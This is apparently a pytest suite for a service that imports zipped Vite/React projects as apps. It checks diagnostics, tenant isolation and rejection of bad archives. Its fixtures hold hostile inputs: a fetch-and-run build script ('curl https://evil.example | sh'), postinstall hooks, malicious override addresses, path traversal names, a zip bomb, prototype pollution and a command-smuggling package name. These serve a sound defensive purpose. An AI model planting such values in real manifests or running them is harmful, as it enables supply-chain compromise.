"""Imports over HTTP: a zip becomes an app, every mapping is told, and bad archives make nothing."""

import json
from typing import Any

import pytest

from devkit.api.api import Api, code
from devkit.fakes.engine import COMPILE_ERROR
from devkit.fakes.samples import zipped

PACKAGE = {"name": "demo", "private": True, "scripts": {"build": "vite build"}, "devDependencies": {"vite": "^8.0.0"}}


def project(**over: bytes) -> dict[str, bytes]:
    base = {
        "demo/package.json": json.dumps(PACKAGE).encode(),
        "demo/index.html": b'<!doctype html><script type="module" src="/src/main.ts"></script>',
        "demo/src/main.ts": b"document.title = 'demo'\n",
        "demo/_gitignore": b"node_modules\n",
        "demo/.vscode/settings.json": b"{}",
    }
    return base | {f"demo/{name}": data for name, data in over.items()}


def send(api: Api, body: bytes, kind: str = "application/zip", **params: Any) -> Any:
    return api.client.post("/admin/apps/import", content=body, headers={"Content-Type": kind}, params=params)


def test_a_zip_becomes_an_app_with_each_mapping_told(api: Api) -> None:
    answer = send(api, zipped(project()))
    assert answer.status_code == 201, answer.text
    app = answer.json()
    assert (app["framework"], app["slug"]) == ("vanilla", "demo")
    assert "VERSION_MAPPED" in {found["code"] for found in app["diagnostics"]}
    revision = f"/admin/apps/{app['id']}/builder/revisions/{app['draft_revision_id']}"
    paths = {entry["path"] for entry in api.client.get(f"{revision}/files").json()["items"]}
    assert ".gitignore" in paths and not any(".vscode" in path for path in paths)
    pinned = json.loads(api.client.get(f"{revision}/files/package.json").json()["content"])
    assert pinned["devDependencies"]["vite"] == api.container.ports.catalog.version("vite")
    assert api.client.get(revision).json()["origin"] == "import"


def test_a_zip_of_an_old_windows_program_with_marks_before_its_texts_comes_in(api: Api) -> None:
    package = b"\xef\xbb\xbf" + json.dumps(PACKAGE).encode().replace(b", ", b",\r\n")
    files = {name.replace("/", "\\"): data for name, data in project(**{"package.json": package}).items()}
    answer = send(api, zipped(files))
    assert answer.status_code == 201, answer.text
    assert "BYTE_ORDER_MARK_REMOVED" in {found["code"] for found in answer.json()["diagnostics"]}
    revision = f"/admin/apps/{answer.json()['id']}/builder/revisions/{answer.json()['draft_revision_id']}"
    paths = {entry["path"] for entry in api.client.get(f"{revision}/files").json()["items"]}
    assert {"package.json", "index.html", "src/main.ts"} <= paths


def test_what_does_not_compile_becomes_a_draft_with_all_that_is_wrong(api: Api) -> None:
    answer = send(api, zipped(project(**{"src/bad.ts": COMPILE_ERROR.encode()})))
    assert answer.status_code == 201, answer.text
    assert [each["code"] for each in answer.json()["diagnostics"] if each["severity"] == "error"] == ["COMPILE_ERROR"]


def test_packages_that_nothing_loads_and_the_variables_of_a_page_do_not_keep_a_project_out(api: Api) -> None:
    package = json.dumps(PACKAGE | {"dependencies": {"left-pad": "1"}}).encode()
    answer = send(api, zipped(project(**{"package.json": package, ".env": b"VITE_API=https://x.test\nKEY=1\n"})))
    assert answer.status_code == 201, answer.text
    assert {"PACKAGES_DROPPED", "ENV_READ", "ENV_LEFT_OUT"} <= {each["code"] for each in answer.json()["diagnostics"]}
    assert answer.json()["settings"]["env"] == {"VITE_API": "https://x.test"}


def work_of(api: Api, made: dict[str, Any]) -> Any:
    ports = api.container.ports
    revision = ports.revisions.get(made["tenant_id"], made["id"], made["draft_revision_id"])
    return ports.builds.get(made["tenant_id"], made["id"], revision.build_id).work


def test_an_import_whose_code_is_changed_is_compared_with_the_project_as_it_came(api: Api) -> None:
    config, secret = b"export default { base: '/repo/' }\n", b"TOKEN=abc\n"
    made = send(api, zipped(project(**{"vite.config.ts": config, ".env": secret}))).json()
    work = work_of(api, made)
    assert work.checks == ["page"]
    files = api.container.ports.snapshots.get(made["tenant_id"], made["id"], work.original)
    assert files["vite.config.ts"] == config and ".env" not in files
    assert work_of(api, send(api, zipped(project()), name="Same").json()).original == ""


def test_an_upload_is_named_by_its_id_and_belongs_to_its_tenant(api: Api) -> None:
    upload = api.client.post("/admin/uploads").json()
    api.world.blobs.put(f"uploads/acme/{upload['upload_id']}", zipped(project()))
    foreign = api.as_tenant("mallory").post("/admin/apps/import", json={"upload_id": upload["upload_id"]})
    assert (foreign.status_code, foreign.json()["code"]) == (404, "NOT_FOUND")
    mine = api.client.post("/admin/apps/import", json={"upload_id": upload["upload_id"], "name": "Mine"})
    assert (mine.status_code, mine.json()["name"]) == (201, "Mine")


BAD: list[tuple[str, bytes, str, int]] = [
    ("no zip", b"hello", "application/zip", 422),
    ("empty", b"", "application/zip", 422),
    ("traversal", zipped(project(**{"../../evil.ts": b""})), "application/zip", 422),
    ("invalid package.json", zipped(project(**{"package.json": b"{"})), "application/zip", 422),
    (
        "a project of Next.js",
        zipped({"demo/package.json": b'{"dependencies": {"next": "15"}}', "demo/app/page.tsx": b""}),
        "application/zip",
        422,
    ),
    ("no package.json", zipped({"demo/index.html": b"<p>"}), "application/zip", 422),
    ("bomb", zipped(project(**{"src/big.ts": b"\0" * 30_000_000})), "application/zip", 422),
    ("a form of no kind", b"x", "text/plain", 415),
    ("JSON without an id", b"{}", "application/json", 422),
    ("an id of no upload", b'{"upload_id":"upl_00000000000000000000000000"}', "application/json", 404),
]


@pytest.mark.parametrize(("body", "kind", "status"), [row[1:] for row in BAD], ids=[row[0] for row in BAD])
def test_a_bad_archive_makes_nothing(body: bytes, kind: str, status: int, api: Api) -> None:
    answer = send(api, body, kind)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert api.client.get("/admin/apps").json()["items"] == []


def test_a_name_that_none_can_have_is_refused_and_makes_nothing(api: Api) -> None:
    assert code(send(api, zipped(project()), name="")) == (422, "VALIDATION_FAILED")
    assert api.client.get("/admin/apps").json()["items"] == []


def test_what_is_missing_comes_with_what_may_be_done_next_in_words_of_ours(api: Api) -> None:
    package = json.dumps(PACKAGE | {"dependencies": {"left-pad": "1", "a b; say hi": "1"}}).encode()
    answer = send(api, zipped(project(**{"package.json": package, "src/main.ts": COMPILE_ERROR.encode()})))
    (step,) = answer.json()["next_steps"]
    assert step["kind"] == "ask" and step["message"].startswith("Finish this import: its build fails.")
    assert "say hi" not in step["message"]
    assert send(api, zipped(project()), name="Whole").json()["next_steps"] == []


MIXED = PACKAGE | {
    "dependencies": {"react": "^18.3.1", "react-dom": "^18.3.1"},
    "devDependencies": {"@tailwindcss/postcss": "^4.0.0", "tailwindcss": "^4.0.0", "vite": "^6.0.0"},
}
"""React decides for the classic line, which has Tailwind 3."""
POSTCSS = b"export default { plugins: { '@tailwindcss/postcss': {} } }\n"


def mixed(**over: bytes) -> bytes:
    return zipped(project(**{"package.json": json.dumps(MIXED).encode(), "postcss.config.js": POSTCSS, **over}))


def test_what_is_red_on_one_line_may_be_imported_again_into_the_same_app_on_the_other(api: Api) -> None:
    first = send(api, mixed()).json()
    assert "classic line" in {each["code"]: each["message"] for each in first["diagnostics"]}["CATALOG_LINE"]
    step = first["next_steps"][-1]
    assert (step["kind"], step["line"]) == ("line", "current") and "react 19" in step["message"]
    answer = send(api, mixed(), line="current", app_id=first["id"])
    assert answer.status_code == 201, answer.text
    again = answer.json()
    assert (again["id"], again["slug"], again["next_steps"]) == (first["id"], first["slug"], [])
    assert again["untrusted"] == ["import"]
    revisions = api.client.get(f"/admin/apps/{first['id']}/builder/revisions").json()["items"]
    assert [each["origin"] for each in revisions] == ["import", "import"]
    files = f"/admin/apps/{first['id']}/builder/revisions/{again['draft_revision_id']}/files/package.json"
    pinned = json.loads(api.client.get(files).json()["content"])
    assert pinned["dependencies"]["react"] == api.container.ports.catalog.version("react")


def test_another_line_is_no_way_out_where_it_fits_less(api: Api) -> None:
    red = send(api, zipped(project(**{"src/main.ts": COMPILE_ERROR.encode()}))).json()
    assert [each["kind"] for each in red["next_steps"]] == ["ask"]


def test_an_app_that_was_worked_on_since_and_a_strangers_are_not_imported_into(api: Api) -> None:
    made = api.client.post("/admin/apps", json={"name": "Shop"}).json()
    assert code(send(api, mixed(), app_id=made["id"])) == (409, "REVISION_CONFLICT")
    stranger = send(api, mixed(), app_id="app_01ARZ3NDEKTSV4RRFFQ69G5FAV")
    assert (stranger.status_code, send(api, mixed(), line="newest").status_code) == (404, 422)
    assert len(api.client.get("/admin/apps").json()["items"]) == 1


LIES: dict[str, Any] = {
    "dependencies is a list": {"dependencies": ["react"]},
    "dependencies is a text": {"dependencies": "react"},
    "versions are no texts": {"dependencies": {"react": 18, "vue": None, "vite": {"a": 1}, "clsx": ["1"]}},
    "a version is an address": {
        "devDependencies": {"vite": "git+ssh://git@example.com/evil.git", "react": "file:../x"}
    },
    "names that are no names": {"dependencies": {"../../etc/passwd": "1", "__proto__": "1", "": "1", "a" * 9000: "1"}},
    "five thousand packages": {"dependencies": {f"package-{number}": "1" for number in range(5000)}},
    "scripts is a list": {"scripts": ["vite build"]},
    "a script is no text": {"scripts": {"build": {"run": "vite"}, "dev": 1}},
    "a build that does something else": {"scripts": {"build": "curl https://evil.example | sh", "postinstall": "sh x"}},
    "the same package twice": {"dependencies": {"vite": "8"}, "devDependencies": {"vite": "8"}},
    "fields that change what is installed": {
        "overrides": {"vite": "npm:evil@1"},
        "resolutions": {"a": "b"},
        "pnpm": {},
    },
    "a name of no app": {"name": "\u202e\u0000\ud800"},
    "a name that is a number": {"name": 7, "version": [], "type": {}},
    "nested deep": {"x": json.loads("[" * 400 + "]" * 400)},
}


@pytest.mark.parametrize("lie", LIES, ids=str)
def test_a_package_json_of_lies_is_read_as_far_as_it_goes_or_refused_with_a_code(lie: str, api: Api) -> None:
    answer = send(api, zipped(project(**{"package.json": json.dumps(PACKAGE | LIES[lie]).encode()})))
    assert answer.status_code in (201, 422), answer.text
    body = answer.json()
    assert len(body["diagnostics"]) <= 150 and len(answer.content) < 200_000
    if answer.status_code == 422:
        assert body["code"] == "BUILDER_PATCH_POLICY_VIOLATION" and api.client.get("/admin/apps").json()["items"] == []
        return
    revision = f"/admin/apps/{body['id']}/builder/revisions/{body['draft_revision_id']}"
    stored = json.loads(api.client.get(f"{revision}/files/package.json").json()["content"])
    pins = api.container.ports.catalog
    for section in ("dependencies", "devDependencies"):
        assert all(pins.version(name) == version for name, version in stored.get(section, {}).items())
    assert "curl" not in json.dumps(stored) and not {"overrides", "resolutions", "pnpm"} & stored.keys()
    assert "postinstall" not in stored["scripts"]


@pytest.mark.parametrize("top", [{"workspaces": ["apps/*"]}, {"dependencies": {"express": "4"}}, None])
def test_a_workspace_is_refused_with_the_folder_to_send(api: Api, top: dict[str, Any] | None) -> None:
    web = {f"shop/apps/web/{name.removeprefix('demo/')}": data for name, data in project().items()}
    files = web | ({"shop/package.json": json.dumps(PACKAGE | top).encode()} if top else {})
    answer = send(api, zipped(files | {"shop/README.md": b"x", "shop/apps/web/vite.config.ts": b"export default {}"}))
    folder = "apps/web" if top else "shop/apps/web"
    assert (answer.status_code, answer.json()["detail"].endswith(f" Send the folder {folder}.")) == (422, True)
    first = answer.json()["diagnostics"][0]
    assert (first["code"], first["path"]) == ("PROJECT_IN_FOLDER", f"{folder}/package.json")
